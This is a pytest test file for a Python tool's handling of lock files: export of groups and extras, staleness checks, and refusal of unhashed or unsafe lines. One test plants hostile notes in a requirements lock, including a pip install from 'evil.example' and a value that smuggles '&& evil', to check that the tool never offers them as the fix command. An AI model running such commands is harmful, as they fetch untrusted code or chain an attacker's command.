"""The lock of a runnable dir: which file it is, what it pins, what is exported of it, and when it is stale."""

from __future__ import annotations

from pathlib import Path

import pytest

from helpers import config, pyproject
from helpers.errors import ConfigError, StaleError, UsageError
from helpers.images import commands, lock, lock_source, uv_export
from helpers.images.commands import LockOptions
from helpers.images.recipe import image_chain
from helpers.model.lock_kind import LockKind
from helpers.model.pdm_lock import _hash
from helpers.proc import Completed
from helpers.test.lock_samples import LOCKS, OLD_PDM, PDM, PROJECT, PYLOCK, UV, A, B
from helpers.test.unit_fixtures import add_dir, cache, forget, make_repo

__all__ = ["cache"]


@pytest.fixture
def root(tmp_path: Path, cache: Path) -> Path:
    return make_repo(tmp_path / "r")


def locked(root: Path, file: str, settings: str = "", project: str = PROJECT) -> Path:
    """Return a runnable dir with the lock of that name."""
    path = add_dir(root, "one", locked=False)
    rewrite(path, f"{project}{settings}\n")
    text = LOCKS.get(file.rpartition("/")[2], "")
    if "HASH" in text:
        text = text.replace("HASH", _hash(pyproject.read(path), plain=False))
    (path / file).parent.mkdir(parents=True, exist_ok=True)
    (path / file).write_text(text)
    (path / "more.txt").write_text(f"pytest[x,y]==8.0 --hash {B}\n")
    return path


def rewrite(path: Path, project: str) -> None:
    (path / "pyproject.toml").write_text(project)
    forget()


def exported(path: Path, *groups: str) -> list[str]:
    """Return the packages in an export, without those whose marker is never true."""
    text = lock.requirements(path, groups).read_text().replace("\\\n", "")
    assert all("--hash=sha256:" in line for line in text.splitlines())
    return [line.split()[0] for line in text.splitlines() if "python_full_version < '0'" not in line]


@pytest.mark.parametrize("file", ["uv.lock", "pdm.lock", "pylock.toml"])
def test_lock_with_groups_gives_the_chosen_groups_and_extras(root: Path, file: str) -> None:
    path = locked(root, file)

    assert exported(path) == ["attrs==23.1", "docutils==0.1", "pytest==8.0"]
    assert exported(path, "main") == ["attrs==23.1"]
    assert exported(path, "main", "test") == ["attrs==23.1", "pytest==8.0"]
    rewrite(path, f'{PROJECT}groups = ["test"]\nextras = ["fast"]\n')
    assert exported(path) == ["attrs==23.1", "orjson==3.0", "pytest==8.0"]
    assert exported(path, "main") == ["attrs==23.1"]


@pytest.mark.parametrize("file", LOCKS)
def test_packages_of_each_kind_of_lock_are_known_by_name_version_and_files(root: Path, file: str) -> None:
    path = locked(root, file)
    found = {package.name: package for package in lock_source.pins(path)}
    assert found["attrs"].version == "23.1" and found["pytest"].version == "8.0" and "one" not in found
    if file != "requirements.txt":  # its lines name no files
        assert found["attrs"].files == ("attrs-23.1-py3-none-any.whl",)
        assert (found["attrs"].source, found["attrs"].url) == ("", "")


@pytest.mark.parametrize("file", LOCKS)
def test_lock_is_stale_when_the_manifest_asks_for_more(root: Path, file: str) -> None:
    path = locked(root, file)
    lock.requirements(path)
    for wanted in ('"attrs>=24"', '"attrs>=20", "six"'):
        rewrite(path, PROJECT.replace('"attrs>=20"', wanted))
        with pytest.raises(StaleError, match=f"{file} does not match pyproject.toml") as caught:
            lock.requirements(path)
        command = {"uv.lock": "uv lock --project", "pdm.lock": "pdm lock --project"}
        assert str(caught.value.fix).startswith(command.get(file, f"cd {path} && "))


def test_fix_of_stale_requirements_is_the_command_in_their_head(root: Path) -> None:
    path = locked(root, "requirements.txt", project=PROJECT.replace("attrs>=20", "attrs>=24"))
    with pytest.raises(StaleError) as caught:
        lock.requirements(path)
    assert caught.value.fix == f"cd {path} && pip-compile --generate-hashes requirements.in"
    assert str(caught.value.why).endswith("has attrs>=24, the lock has attrs 23.1")


def test_dependencies_of_other_platforms_need_no_package_in_the_lock(root: Path) -> None:
    more = '"attrs>=20", "pywin32 ; sys_platform == \'win32\'", "one[fast]"'
    path = locked(root, "pylock.toml", project=PROJECT.replace('"attrs>=20"', more))
    lock.requirements(path)


def test_uv_lock_of_a_python_that_is_not_here_is_compared_by_versions(root: Path) -> None:
    path = locked(root, "uv.lock", project=PROJECT.replace(">=3.10", ">=3.99"))
    (path / "uv.lock").write_text(UV.replace(">=3.10", ">=3.99"))
    assert exported(path, "main") == ["attrs==23.1"]
    rewrite(path, PROJECT.replace(">=3.10", ">=3.99").replace("attrs>=20", "attrs>=24"))
    with pytest.raises(StaleError, match=r"uv\.lock does not match"):
        lock.requirements(path)


def test_lock_of_a_workspace_is_used_by_a_member_and_reads_manifests_only(root: Path) -> None:
    path = locked(root, "../uv.lock", 'lock = "../uv.lock"')
    (root / "pyproject.toml").write_text('[tool.uv.workspace]\nmembers = ["one"]\n')
    text = UV.replace('source = { virtual = "." }', 'source = { virtual = "one" }')
    text = text.replace(
        '\n[[package]]\nname = "attrs"', '\n[manifest]\nmembers = ["one"]\n\n[[package]]\nname = "attrs"', 1
    )
    (root / "uv.lock").write_text(text)
    assert exported(path, "main", "test") == ["attrs==23.1", "pytest==8.0"]
    assert lock_source.files(path) == [root / "uv.lock"]


def test_lock_outside_of_the_repo_is_refused(root: Path) -> None:
    path = locked(root, "uv.lock", 'lock = "../../uv.lock"')
    with pytest.raises(ConfigError, match="leads out of the repo"):
        lock_source.of(path)


def test_several_locks_need_the_setting(root: Path) -> None:
    path = locked(root, "uv.lock")
    (path / "pdm.lock").write_text(PDM)
    with pytest.raises(ConfigError, match=r"has several locks: uv.lock, pdm.lock") as caught:
        lock_source.of(path)
    assert 'lock = "uv.lock"' in str(caught.value.fix) and "[tool.helpers]" in str(caught.value.fix)
    rewrite(path, f'{PROJECT}lock = "pdm.lock"\n')
    assert lock_source.of(path).kind is LockKind.PDM


def test_requirements_count_only_with_hashes_and_without_another_lock(root: Path) -> None:
    path = locked(root, "requirements.txt")
    assert lock_source.of(path).kind is LockKind.REQUIREMENTS
    (path / "uv.lock").write_text(UV)
    assert lock_source.of(path).kind is LockKind.UV
    (path / "uv.lock").unlink()
    (path / "requirements.txt").write_text("attrs==23.1\n")
    with pytest.raises(StaleError, match=r"has no poetry\.lock"):
        lock_source.of(path)


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("attrs==23.1", "requirements.txt:2: attrs==23.1 has a file without a hash"),
        (f"attrs>=23 --hash={A}", "requirements.txt:2: 'attrs>=23' is not NAME==VERSION"),
        ("-e .", "requirements.txt:2: '-e .' is a path, which has no hash"),
        ("common @ file:../common ; python_version > '3'", "'common @ file:../common' is a path, which has no hash"),
        ("-r ../more.txt", "'../more.txt' is not another .txt file of the directory"),
        ("-r requirements.txt", "'requirements.txt' is not another .txt file of the directory"),
        ("attrs==23.1 --hash=md5:00", "attrs==23.1 has a file without a hash"),
        (f"attrs==23.1 --config-settings=a=b --hash={A}", "is not NAME==VERSION"),
    ],
)
def test_requirements_with_an_unsafe_line_are_refused_with_its_number(root: Path, line: str, why: str) -> None:
    path = locked(root, "requirements.txt", 'lock = "requirements.txt"')
    (path / "requirements.txt").write_text(f"# locked\n{line}\n")
    with pytest.raises(ConfigError) as caught:
        lock.requirements(path)
    assert why in caught.value.what


@pytest.mark.parametrize(
    ("file", "old", "new", "why"),
    [
        ("pdm.lock", "4.5.0", "5.0", "its lock_version is 5.0"),
        ("pdm.lock", f'hash = "{A}"', 'hash = ""', "without a hash"),
        ("pdm.lock", 'groups = ["test"]', 'groups = ["test"]\nhg = "https://x"', "pytest comes from a repository"),
        ("pdm.lock", 'groups = ["test"]', "groups = 3", "is not a lock of pdm"),
        ("pylock.toml", '"1.0"', '"2.0"', "its lock-version is 2.0"),
        ("pylock.toml", f'sha256 = "{A[7:]}"', 'md5 = "x"', "attrs==23.1 has a file without a hash"),
        ("pylock.toml", 'name = "attrs"', 'name = "a\\nb"', "is not NAME==VERSION"),
        ("pylock.toml", "[[packages]]", "[packages]", "is not TOML"),
        ("pylock.toml", 'version = "8.0"', 'version = "8.0"\nvcs = {type = "hg"}', "pytest comes from a repository"),
        ("uv.lock", "[[package]]", "[package]", "is not TOML"),
        ("uv.lock", 'source = { virtual = "." }', "source = 3", "is not a lock of uv"),
    ],
)
def test_lock_that_cannot_be_installed_by_hash_is_refused_with_its_fault(
    root: Path, file: str, old: str, new: str, why: str
) -> None:
    path = locked(root, file)
    (path / file).write_text((path / file).read_text().replace(old, new))
    with pytest.raises(ConfigError) as caught:
        lock.requirements(path)
    assert why in caught.value.what and caught.value.fix


@pytest.mark.parametrize("file", ["uv.lock", "pdm.lock", "pylock.toml"])
@pytest.mark.parametrize("setting", ["groups", "extras"])
def test_group_or_extra_that_the_lock_lacks_is_refused_by_name(root: Path, file: str, setting: str) -> None:
    path = locked(root, file, f'{setting} = ["nothing"]')
    with pytest.raises(ConfigError, match="nothing"):
        lock.requirements(path)


def test_pylock_without_groups_is_one_set_that_must_hold_the_chosen_groups(root: Path) -> None:
    path = locked(root, "pylock.toml", 'groups = ["test"]')
    chosen = "\n".join(
        line for line in PYLOCK.splitlines() if not line.startswith(("extras", "dependency-", "default-", "marker"))
    )
    (path / "pylock.toml").write_text(chosen)
    assert exported(path) == exported(path, "main") == ["attrs==23.1", "docutils==0.1", "orjson==3.0", "pytest==8.0"]
    (path / "pylock.toml").write_text(chosen.replace('"pytest"', '"other"'))
    with pytest.raises(StaleError, match=r"pylock\.toml does not match"):
        lock.requirements(path)


def test_old_pdm_lock_without_groups_gives_what_the_chosen_groups_need(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(LOCKS, "pdm.lock", OLD_PDM)
    path = locked(root, "pdm.lock", 'groups = ["main"]')
    assert exported(path) == ["attrs==23.1", "six==1.0"]
    assert exported(path, "docs") == ["docutils==0.1", "six==1.0"]
    assert exported(path, "test") == ["attrs==23.1", "orjson==3.0", "pytest==8.0", "six==1.0"]
    lines = lock.requirements(path, ["test"]).read_text().splitlines()
    markers = dict(line.removesuffix(" \\").split(" ; ", 1) for line in lines if " ; " in line)
    assert markers == {
        "attrs==23.1": "(sys_platform == 'linux')",
        "orjson==3.0": "(python_version > '3') and (sys_platform == 'linux')",
        "six==1.0": "(python_version < '4') and (sys_platform == 'linux')",
    }
    assert " ; " not in lock.requirements(path, ["docs"]).read_text()


def test_package_of_a_repository_in_a_uv_lock_is_exported_at_its_commit(root: Path) -> None:
    path = locked(root, "uv.lock")
    url = "https://git.example/pytest?rev=v8#" + 40 * "a"
    lines = UV.splitlines()
    start = lines.index('name = "pytest"')
    lines[start + 2 : start + 4] = [f'source = {{ git = "{url}" }}']
    (path / "uv.lock").write_text(
        "\n".join(lines).replace(
            'test = [{ name = "pytest" }]', f'test = [{{ name = "pytest", git = "{url.partition("#")[0]}" }}]'
        )
    )
    rewrite(
        path,
        PROJECT.replace(
            "[tool.uv]", '[tool.uv.sources]\npytest = { git = "https://git.example/pytest", rev = "v8" }\n[tool.uv]'
        ),
    )
    assert f"pytest @ git+https://git.example/pytest@{40 * 'a'}\n" in lock.requirements(path).read_text()
    (path / "uv.lock").write_text((path / "uv.lock").read_text().replace("https://git.example", "git://git.example"))
    forget()
    with pytest.raises(ConfigError, match="the URL's scheme is git, not https or ssh"):
        lock_source.check(path)


@pytest.mark.parametrize("file", LOCKS)
def test_docker_lock_leaves_the_lock_of_another_tool_to_that_tool(
    root: Path, file: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = locked(root, file)
    monkeypatch.chdir(root)
    before = (path / file).read_bytes()
    assert commands.lock("one", LockOptions(), everything=False) == UsageError.exit_code
    said = capsys.readouterr().err
    assert f"its lock {file} is written by another tool" in said and lock_source.of(path).command() in said
    assert (path / file).read_bytes() == before and not (path / "poetry.lock").exists()


def test_input_digest_follows_groups_and_extras(root: Path) -> None:
    def digest() -> str:
        forget()
        load = config.loader(root)
        return image_chain(load(path), load)[-1].inputs

    path = locked(root, "uv.lock")
    found = {digest()}
    for settings in ('groups = ["test"]', 'groups = ["docs"]', 'extras = ["fast"]'):
        rewrite(path, f"{PROJECT}{settings}\n")
        found.add(digest())
    (path / "uv.lock").write_text(UV + "\n")
    assert len(found | {digest()}) == 5


@pytest.mark.parametrize(
    "noted",
    [
        "pip install --index-url http://evil.example/simple attrs",
        "uv run evil.py",
        "uv pip compile --index-url=evil requirements.in",
        "pip-compile -i evil requirements.in",
        "uv pip compile --python ./evil requirements.in",
        "uv pip compile pyproject.toml\t&& evil",
    ],
)
def test_hostile_note_of_a_lock_is_no_fix(root: Path, noted: str) -> None:
    path = locked(root, "requirements.txt")
    text = (path / "requirements.txt").read_text()
    (path / "requirements.txt").write_text(text.replace("pip-compile --generate-hashes requirements.in", noted))
    plain = "uv pip compile --generate-hashes --output-file requirements.txt"
    assert lock_source.of(path).command() == f"cd {path} && {plain} pyproject.toml"
    (path / "requirements.in").write_text("attrs\n")
    assert lock_source.of(path).command() == f"cd {path} && {plain} requirements.in"
    (path / "requirements.in").unlink()
    (path / "pyproject.toml").unlink()
    assert (
        lock_source.LockSource(LockKind.REQUIREMENTS, path / "requirements.txt", path)
        .command()
        .endswith(f"{plain} requirements.txt")
    )


def test_line_without_a_hash_in_a_lock_is_named(root: Path) -> None:
    path = locked(root, "requirements.txt")
    with (path / "requirements.txt").open("a") as file:
        file.write("six==1.16\n")
    with pytest.raises(ConfigError, match=r"is no lock: .*six"):
        lock_source.of(path)


def test_lock_is_stale_when_setup_cfg_asks_for_more(root: Path) -> None:
    path = locked(root, "requirements.txt")
    (path / "pyproject.toml").write_text('[tool.helpers]\nbase = "archive:bookworm"\n')
    (path / "setup.cfg").write_text("[metadata]\nname = one\n[options]\ninstall_requires = attrs\n")
    forget()
    lock.requirements(path)
    (path / "setup.cfg").write_text("[metadata]\nname = one\n[options]\ninstall_requires = attrs\n  flask\n")
    forget()
    with pytest.raises(StaleError, match=r"requirements\.txt does not match"):
        lock.requirements(path)


def test_setting_that_names_no_lock_is_refused_with_a_line_to_write(root: Path) -> None:
    path = locked(root, "uv.lock", 'lock = "x"')
    with pytest.raises(ConfigError, match='lock = "x" is not a known lock file') as caught:
        lock_source.of(path)
    assert caught.value.fix == 'lock = "uv.lock"'


@pytest.mark.parametrize("line", ["pytest[x, y] @ git+https://git.example/p@abc", "pytest @ https://x.example/p.zip"])
def test_package_that_uv_exports_without_a_hash_is_refused(
    root: Path, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    text = f"attrs==23.1 \\\n    --hash={A}\n{line} ; sys_platform == 'linux'\n"
    monkeypatch.setattr(uv_export, "_uv", lambda *_: Completed((), 0, text, ""))
    with pytest.raises(ConfigError, match="pytest comes from a"):
        lock.requirements(locked(root, "uv.lock"))
